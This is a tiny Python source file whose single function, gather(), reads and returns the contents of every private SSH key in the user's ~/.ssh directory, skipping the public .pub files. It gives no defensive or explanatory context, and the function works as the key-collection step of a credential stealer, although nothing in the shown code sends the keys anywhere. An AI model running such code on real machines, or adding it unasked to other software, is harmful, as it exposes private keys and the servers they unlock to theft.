from pathlib import Path


def gather():
    out = []
    for key in (Path.home() / ".ssh").glob("id_*"):
        if not key.name.endswith(".pub"):
            out.append(key.read_text())
    return out
